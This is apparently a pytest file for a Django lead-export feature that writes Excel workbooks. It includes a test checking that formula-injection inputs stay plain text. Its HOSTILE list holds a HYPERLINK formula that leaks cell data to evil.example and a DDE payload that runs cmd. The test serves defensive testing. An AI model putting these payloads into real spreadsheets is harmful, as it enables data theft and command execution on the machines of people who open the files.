"""The list as a spreadsheet without formulas."""

import zipfile
from collections.abc import Callable
from io import BytesIO

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from .conftest import at, make_lead

pytestmark = pytest.mark.django_db


def export(client: Client, **query: str) -> bytes:
    reply = client.get(reverse("studio_leads_export"), query)
    assert reply.status_code == 200
    assert reply["Content-Disposition"].startswith('attachment; filename="leads-')
    assert "no-store" in reply["Cache-Control"]
    return b"".join(reply.streaming_content)


def rows(file: bytes) -> list[dict[str, str]]:
    sheet = load_workbook(BytesIO(file)).active
    heading, *others = sheet.iter_rows(values_only=True)
    return [dict(zip(heading, row, strict=True)) for row in others]


@pytest.mark.postgres
def test_has_what_the_list_has(sales: Client) -> None:
    make_lead(company="A", site="de", at=at("2026-03-09T10:00:00"), deliveries={"crm": "dead", "mail": "delivered"})
    make_lead(company="B")
    make_lead(company="C", site="de", state="spam")
    (row,) = rows(export(sales, site="de"))
    assert (row["Company"], row["Received (UTC)"], row["State"]) == ("A", "2026-03-09 10:00:00", "Open")
    assert row["E-mail"] == "operations@northwind.example"
    assert row["Deliveries"] == "crm: failed\nmail: delivered"
    assert {row["Company"] for row in rows(export(sales, state="all"))} == {"A", "B", "C"}


def test_headings_are_in_the_readers_language(sales: Client) -> None:
    make_lead(company="A")
    reply = sales.get(reverse("studio_leads_export"), headers={"Accept-Language": "de"})
    (row,) = rows(b"".join(reply.streaming_content))
    assert (row["Firma"], row["Zustand"]) == ("A", "Offen")
    assert set(row).isdisjoint({"Company", "State", "Price from", "Flags", "First visit"})


HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "#N/A", "1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_becomes_a_formula_or_a_link(sales: Client, text: str) -> None:
    make_lead(text, text, message=text, more={"extra": {text: text}, "price": {"from": text, "currency": text}})
    file = export(sales)
    (row,) = rows(file)
    assert row["Name"] == row["Company"] == row["Message"] == row["Price from"] == text
    sheet = load_workbook(BytesIO(file)).active
    cells = [cell for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    formulas = [cell for cell in cells if str(cell.value).startswith(("=", "+", "-", "@"))]
    assert bool(formulas) == text.startswith(("=", "+", "-", "@"))
    assert all(cell.quotePrefix for cell in formulas)
    with zipfile.ZipFile(BytesIO(file)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
        assert not [name for name in archive.namelist() if "externalLink" in name or "sheet1.xml.rels" in name]


def test_signs_that_no_spreadsheet_takes_are_left_out(sales: Client) -> None:
    make_lead(more={"extra": "a\x00\x0bb"}) if connection.vendor == "sqlite" else make_lead(more={"extra": "a\x0bb"})
    (row,) = rows(export(sales))
    assert row["Other fields"] == "Field “extra”: ab"


def test_the_number_of_queries_does_not_grow(sales: Client) -> None:
    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            export(sales, state="all")
        return len(queries)

    make_lead(deliveries={"crm": "dead"})
    count()
    few = count()
    for _ in range(20):
        make_lead(deliveries={"crm": "dead"})
    assert count() == few


def test_is_for_who_may_export(sign_in: Callable[..., Client]) -> None:
    make_lead()
    client = sign_in("view_lead", "change_lead", "erase_lead")
    assert client.get(reverse("studio_leads_export")).status_code == 302
    assert sign_in("export_lead").get(reverse("studio_leads_export")).status_code == 302
    assert len(rows(export(sign_in("view_lead", "export_lead")))) == 1
